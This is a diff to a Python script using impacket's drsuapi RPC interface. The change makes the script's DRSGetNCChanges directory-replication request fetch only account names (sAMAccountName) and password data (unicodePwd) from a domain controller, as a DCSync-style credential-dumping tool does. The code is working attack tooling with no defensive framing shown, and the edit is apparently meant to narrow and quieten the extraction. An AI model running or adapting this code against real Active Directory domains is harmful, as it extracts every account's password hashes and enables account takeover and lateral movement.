@@ -13,6 +13,8 @@ from impacket.dcerpc.v5.rpcrt import RPC_C_AUTHN_LEVEL_PKT_PRIVACY
 # impacket reads a page's list of objects by recursion: pages stay small.
 PAGE = 40
 NAME, PASSWORD = "1.2.840.113556.1.4.221", "1.2.840.113556.1.4.90"
+# The same by the prefix table that everybody has (MS-DRSR, section 5.16.4): no other attribute is asked for.
+ASKED = [0x900DD, 0x9005A]
 
 
 def bind(connection):
@@ -58,7 +60,12 @@ def page(connection, handle, base, watermark):
     message["cMaxObjects"] = PAGE
     message["cMaxBytes"] = 0
     message["ulExtendedOp"] = 0
-    message["pPartialAttrSet"] = NULL
+    message["pPartialAttrSet"]["dwVersion"] = 1
+    message["pPartialAttrSet"]["cAttrs"] = len(ASKED)
+    for identifier in ASKED:
+        attribute = drsuapi.ATTRTYP()
+        attribute["Data"] = identifier
+        message["pPartialAttrSet"]["rgPartialAttr"].append(attribute)
     message["pPartialAttrSetEx1"] = NULL
     message["PrefixTableDest"]["pPrefixEntry"] = NULL
     return connection.request(request)["pmsgOut"]["V6"]
